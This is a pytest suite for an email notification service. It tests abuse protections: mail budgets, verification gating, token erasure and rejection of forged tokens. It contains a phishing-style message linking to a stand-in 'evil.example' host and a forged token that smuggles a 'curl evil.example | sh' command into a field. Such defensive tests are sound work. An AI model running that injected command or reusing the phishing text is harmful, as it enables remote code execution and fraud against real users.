"""Attacks that would make the service mail what, or as often as, somebody else likes."""

import asyncio
import json
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import uuid4

import pytest
from fixtures.deadlines import eventually
from fixtures.notify_stack import DEADLINE_SECONDS, Proxy, Stack, User
from fotograma_contracts.base import Event
from fotograma_contracts.users import (
    UserApiKeyCreated,
    UserDeleted,
    UserPasswordChanged,
    UserPasswordResetRequested,
    UserUpdated,
    UserVerificationRequested,
)
from fotograma_notify.domain import Recipient, SuppressionReason
from prometheus_client import REGISTRY

pytestmark = pytest.mark.middle

TOKEN = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFG"
TEXT = "URGENT your account is locked: visit https://evil.example/pay NOW"


def until() -> datetime:
    return datetime.now(UTC) + timedelta(hours=1)


def reset(user: User) -> UserPasswordResetRequested:
    return UserPasswordResetRequested(user_id=user.user_id, token=TOKEN, expires_at=until())


def verification(user: User, email: str | None = None) -> UserVerificationRequested:
    return UserVerificationRequested(
        user_id=user.user_id, email=email or user.email, token=TOKEN, expires_at=until()
    )


def api_key(user: User) -> UserApiKeyCreated:
    return UserApiKeyCreated(user_id=user.user_id, name=TEXT, prefix="fgk_12345678")


async def settled(stack: Stack, user: User, count: int) -> list[str]:
    """What became of the user's deliveries, once all have ended."""

    async def ended() -> bool:
        deliveries = await stack.deliveries(user)
        return len(deliveries) == count and all(d.status in {"sent", "skipped"} for d in deliveries)

    await eventually(ended, DEADLINE_SECONDS)
    return [d.reason or d.status for d in await stack.deliveries(user)]


def skipped(kind: str, reason: str) -> float:
    labels = {"kind": kind, "reason": reason}
    return REGISTRY.get_sample_value("fotograma_mail_skipped_total", labels) or 0.0


async def test_sixty_api_keys_are_five_mails(stack: Stack) -> None:
    ana = User()
    before = skipped("user.api_key_created", "budget")
    async with stack.background(processes=2):
        await stack.publish(ana.registered(verified=True))
        await stack.publish(*(api_key(ana) for _ in range(60)))
        ends = await settled(stack, ana, 60)
        await stack.publish(UserPasswordChanged(user_id=ana.user_id))  # has a budget of its own
        await settled(stack, ana, 61)
    assert (ends.count("sent"), ends.count("budget")) == (5, 55)
    assert skipped("user.api_key_created", "budget") == before + 55
    mails = await stack.mails(ana)
    assert len(mails) == 6
    assert not any("://evil" in mail["BodyText"] + mail["BodyHtml"] for mail in mails)


async def test_unverified_address_gets_three_links_and_no_other_mail(stack: Stack) -> None:
    stranger = User()
    async with stack.background():
        await stack.publish(stranger.registered(verified=False))
        await stack.publish(*(api_key(stranger) for _ in range(10)))
        await stack.publish(*(stranger.processed() for _ in range(5)))
        await stack.publish(UserPasswordChanged(user_id=stranger.user_id))
        ends = await settled(stack, stranger, 16)
        assert set(ends) == {"unconfirmed"}
        assert await stack.mails(stranger) == []

        links = [make(stranger) for make in (reset, verification) for _ in range(4)]
        await stack.publish(*links)
        ends = await settled(stack, stranger, 24)
    assert (ends.count("sent"), ends.count("budget")) == (3, 5)
    mails = await stack.mails(stranger)
    assert len(mails) == 3
    assert not any("evil" in str(mail) or stranger.email in mail["BodyText"] for mail in mails)


async def test_accounts_that_request_an_address_share_its_budget(stack: Stack) -> None:
    victim, attackers = User(), [User() for _ in range(4)]
    async with stack.background():
        for attacker in attackers:
            await stack.publish(attacker.registered(verified=True))
            await stack.publish(verification(attacker, victim.email))
            await settled(stack, attacker, 1)
            # The account's end does not give the budget back.
            await stack.publish(UserDeleted(user_id=attacker.user_id, revision=2))
            await stack.until_statuses(attacker)
    assert len(await stack.mails(victim)) == 3


async def test_verified_address_gets_all_kinds_of_mail(stack: Stack) -> None:
    ana = User()
    async with stack.background():
        await stack.publish(ana.registered(verified=False))
        await stack.publish(ana.processed())
        await settled(stack, ana, 1)
        await stack.publish(updated(ana, 2, verified=True))

        async def is_known() -> bool:
            return await recipient(stack, ana) == (2, True)

        await eventually(is_known, DEADLINE_SECONDS)
        await stack.publish(ana.processed())
        assert await settled(stack, ana, 2) == ["sent", "unconfirmed"]


def updated(user: User, revision: int, *, verified: bool | None) -> UserUpdated:
    return UserUpdated(
        user_id=user.user_id,
        revision=revision,
        email=user.email,
        locale=user.locale,
        verified=verified,
    )


async def recipient(stack: Stack, user: User) -> tuple[int, bool | None] | None:
    found = await stack.repository.recipient(user.user_id)
    return (found.revision, found.verified) if isinstance(found, Recipient) else None


async def test_recipient_of_the_release_before_counts_as_verified_until_published(
    stack: Stack,
) -> None:
    ana = User()
    row = {
        "pk": {"S": f"USER#{ana.user_id}"},
        "sk": {"S": "RECIPIENT"},
        "revision": {"N": "1"},
        "email": {"S": ana.email},
        "locale": {"S": "en"},
    }
    dynamodb = stack.aws.client("dynamodb")
    table = stack.settings.notify_table
    await asyncio.to_thread(dynamodb.put_item, TableName=table, Item=row)
    async with stack.background():
        await stack.publish(ana.processed())
        assert await settled(stack, ana, 1) == ["sent"]
        for revision, told, known in ((2, False, False), (3, None, False), (4, True, True)):
            await stack.publish(updated(ana, revision, verified=told))

            async def is_known(expected: tuple[int, bool] = (revision, known)) -> bool:
                return await recipient(stack, ana) == expected

            await eventually(is_known, DEADLINE_SECONDS)
            await stack.publish(ana.processed())
            ends = await settled(stack, ana, revision)
            assert ends[0] == ("sent" if known else "unconfirmed")


async def stored(stack: Stack) -> list[dict[str, Any]]:
    """Everything in the table."""
    scan = stack.aws.client("dynamodb").scan
    answer = await asyncio.to_thread(scan, TableName=stack.settings.notify_table)
    return list(answer["Items"])


@pytest.mark.parametrize("make", [reset, verification])
@pytest.mark.parametrize("end", ["sent", "suppressed", "budget", "uncertain"])
async def test_token_is_erased_when_its_delivery_ends(
    stack: Stack, ses_proxy: Proxy, make: Any, end: str
) -> None:
    ana = User()
    event: Event = make(ana)
    ses_proxy.loses_answers = end == "uncertain"
    await ses_proxy.start()
    if end == "suppressed":
        await stack.repository.suppress(ana.email, SuppressionReason.BOUNCE, datetime.now(UTC))
    async with stack.background(
        ses_endpoint_url=ses_proxy.url, notify_unconfirmed_mails_per_hour=1
    ):
        await stack.publish(ana.registered(verified=False))
        if end == "budget":
            await stack.publish(make(ana))
            await settled(stack, ana, 1)
        await stack.publish(event)
        status = "skipped" if end in {"suppressed", "budget"} else end
        newest = (await stack.until_statuses(ana, status, *["sent"] * (end == "budget")))[0]
        await stack.until_queue_is_empty(stack.settings.notify_mail_queue_url)
        await stack.publish(event)  # once more: the token does not come back
        await stack.until_queue_is_empty(stack.settings.notify_mail_queue_url)
    assert newest.content.kind == event.routing_key
    items = await stored(stack)
    assert TOKEN not in json.dumps(items)
    ends = [int(i["expires_at"]["N"]) for i in items if i["sk"]["S"].startswith("DELIVERY#")]
    assert max(ends) <= until().timestamp()
    marks = [int(i["expires_at"]["N"]) for i in items if i["pk"]["S"] == "UNCERTAIN"]
    assert all(mark <= until().timestamp() for mark in marks)


async def test_forged_token_is_not_mailed(stack: Stack) -> None:
    ana = User()
    forged = reset(ana).model_copy(update={"id": uuid4(), "token": "'; curl evil.example | sh; '"})
    async with stack.background():
        await stack.publish(ana.registered(verified=True))
        await stack.publish(forged)
        await stack.publish(reset(ana))
        await stack.until_mailed(ana)
        await settled(stack, ana, 1)  # the forged one is not even stored
    assert TOKEN in str(await stack.mails(ana))
